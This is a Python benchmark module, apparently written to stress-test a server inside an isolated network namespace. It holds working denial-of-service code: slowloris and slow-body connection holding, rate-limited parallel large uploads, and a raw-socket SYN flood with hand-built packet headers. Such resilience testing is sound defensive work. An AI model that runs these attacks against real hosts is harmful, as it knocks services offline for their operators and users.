"""One hostile client: `python -m benchmarks.hostile.attacks NAME ADDRESS SIZE`, until its input ends.

It says `ready` when it is in position, and at the end in JSON what it did. It is to run in a network
namespace of a benchmark's own; SIZE bounds every attack: connections held, uploads at once, packets a second.
"""

from __future__ import annotations

import json
import random
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

Tally = Counter[str]
HEAD = b"GET / HTTP/1.1\r\nHost: 10.10.10.1\r\nX-Slow: "
SMALL_BODY = b"POST /api/tickets/ HTTP/1.1\r\nHost: 10.10.10.1\r\nContent-Length: 9999\r\n\r\n"
UPLOADS = (100_000_000, 6_000_000)  # bytes: one that is refused at once, and one that is not
LINK = 125e6  # bytes a second: what a client has that is on a network of 1 Gbit/s
PIECE = b"x" * 65536
SYNS_AT_ONCE = 50


def told_to_stop(wait: float = 0) -> bool:
    """Whether our input has ended, after waiting so many seconds for it."""
    return bool(select.select([sys.stdin], [], [], wait)[0])


def ready() -> None:
    """Tell that the attack has begun."""
    print("ready", flush=True)


def drip(head: bytes, address: str, size: int) -> Tally:
    """Hold `size` connections, each of which sends `head` and then a byte a second; replace what is cut."""
    tally: Tally = Counter()
    held: list[socket.socket] = []
    while len(held) < size:
        held.append(_opened(head, address))
        time.sleep(0.0005)  # below the pace that the router takes for a flood
    ready()
    while not told_to_stop():
        begin = time.monotonic()
        for index, connection in enumerate(held):
            if not _dripped(connection):
                connection.close()
                held[index] = _opened(head, address)
                tally["cut off"] += 1
        tally["rounds"] += 1
        told_to_stop(max(0.0, begin + 1 - time.monotonic()))
    tally["held"] = len(held)
    return tally


def _opened(head: bytes, address: str) -> socket.socket:
    connection = socket.create_connection((address, 80), timeout=10)
    connection.sendall(head)
    connection.setblocking(False)
    return connection


def _dripped(connection: socket.socket) -> bool:
    try:
        connection.send(b"x")
        return not select.select([connection], [], [], 0)[0] if connection.fileno() < 1024 else True
    except BlockingIOError:
        return True
    except OSError:
        return False


def uploads(address: str, size: int) -> Tally:
    """Send `size` large bodies at once, again and again, together as fast as the link allows."""
    tally: Tally = Counter()
    end = threading.Event()
    threads = [
        threading.Thread(target=_upload, args=(address, UPLOADS[number % 2], LINK / size, end, tally))
        for number in range(size)
    ]
    for thread in threads:
        thread.start()
    ready()
    while not told_to_stop(1):
        pass
    end.set()
    for thread in threads:
        thread.join()
    return tally


def _upload(address: str, length: int, rate: float, end: threading.Event, tally: Tally) -> None:
    head = f"POST /api/tickets/ HTTP/1.1\r\nHost: {address}\r\nContent-Length: {length}\r\n\r\n".encode()
    begin, sent = time.monotonic(), 0
    while not end.is_set():
        try:
            with socket.create_connection((address, 80), timeout=10) as connection:
                connection.sendall(head)
                left = length
                while left > 0 and not end.is_set():
                    connection.sendall(PIECE[:left])
                    left, sent = left - len(PIECE), sent + len(PIECE)
                    time.sleep(max(0.0, begin + sent / rate - time.monotonic()))
                tally[connection.recv(12).decode("latin-1")[9:] or "cut off"] += 1
        except OSError:
            tally["cut off"] += 1
    tally["bytes"] += sent


def syn_flood(address: str, size: int) -> Tally:
    """Send `size` SYNs a second, from our own address, and never answer."""
    tally: Tally = Counter()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((address, 80))
        own = probe.getsockname()[0]
    packets = list(_syns(own, address))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ready()
    begin = time.monotonic()
    while not told_to_stop():
        for _ in range(SYNS_AT_ONCE):
            raw.sendto(packets[tally["sent"] % len(packets)], (address, 0))
            tally["sent"] += 1
        time.sleep(max(0.0, begin + tally["sent"] / size - time.monotonic()))
    tally["seconds"] = round(time.monotonic() - begin)
    return tally


def _syns(source: str, target: str) -> Iterator[bytes]:
    """A SYN from each of some 50,000 ports."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    header = struct.pack(
        "!BBHHHBBH8s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, ends
    )  # its checksum: the kernel
    for port in random.sample(range(10_000, 60_000), 50_000):
        segment = struct.pack("!HHIIBBHHH", port, 80, random.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0)
        pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment)) + segment
        total = sum(struct.unpack(f"!{len(pseudo) // 2}H", pseudo))
        total = (total & 0xFFFF) + (total >> 16)
        checksum = ~(total + (total >> 16)) & 0xFFFF
        yield header + segment[:16] + struct.pack("!H", checksum) + segment[18:]


ATTACKS: dict[str, Callable[[str, int], Tally]] = {
    "slowloris": lambda address, size: drip(HEAD, address, size),
    "slow bodies": lambda address, size: drip(SMALL_BODY, address, size),
    "uploads": uploads,
    "SYN flood": syn_flood,
}


if __name__ == "__main__":
    print(json.dumps(ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]))), flush=True)
